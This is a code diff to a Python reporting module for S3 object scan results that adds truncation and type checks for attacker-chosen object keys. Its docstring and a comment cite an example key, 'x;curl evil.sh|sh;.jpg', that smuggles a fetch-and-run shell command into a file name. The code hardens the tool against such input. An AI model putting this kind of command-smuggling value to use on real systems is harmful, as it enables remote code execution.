@@ -12,6 +12,7 @@ from collections import Counter
 from collections.abc import Iterable
 from typing import Any, TextIO
 
+from ..engine.excerpt import MAX_EXCERPT
 from .actions import Outcome, iso
 from .filters import envelope_time, matches_of
 from .query import Item
@@ -99,6 +100,17 @@ def _verdict(envelope: dict[str, Any]) -> dict[str, Any]:
     return verdict if isinstance(verdict, dict) else {}
 
 
+def masked_objects(objects: Any) -> Any:
+    """An envelope's `objects` with each source key cut to an excerpt's length: a key is chosen by
+    whoever uploaded the object (x;curl evil.sh|sh;.jpg). `--raw` shows them whole."""
+    if not isinstance(objects, list):
+        return objects
+    return [
+        {**obj, "key": clean(obj.get("key"), MAX_EXCERPT)} if isinstance(obj, dict) and "key" in obj else obj
+        for obj in objects
+    ]
+
+
 def show(bucket: str, key: str, envelope: dict[str, Any], out: TextIO) -> None:
     verdict = _verdict(envelope)
     when = envelope_time(envelope)
@@ -117,10 +129,14 @@ def show(bucket: str, key: str, envelope: dict[str, Any], out: TextIO) -> None:
     for label, value in fields:
         print(f"  {label:<14}{clean(value)}", file=out)
     for obj in envelope.get("objects") or []:
+        if not isinstance(obj, dict):
+            print(f"  {'object':<14}(not an object entry: {clean(obj, 40)})", file=out)
+            continue
         version = f" (version {obj.get('version_id')})" if obj.get("version_id") else ""
         copy_key = obj.get("copy_key")
         copy = f"  copy: s3://{bucket}/{copy_key}" if copy_key else f"  ({obj.get('note', 'no copy')})"
-        name = f"s3://{obj.get('bucket')}/{obj.get('key')}{version}{copy}"
+        # the object's key is attacker-chosen (x;curl evil.sh|sh;.jpg): an excerpt, as for matches
+        name = f"s3://{obj.get('bucket')}/{clean(obj.get('key'), MAX_EXCERPT)}{version}{copy}"
         print(f"  {'object':<14}{clean(name)}", file=out)
     status = "DETECTED" if verdict.get("detected") else "not detected"
     print(
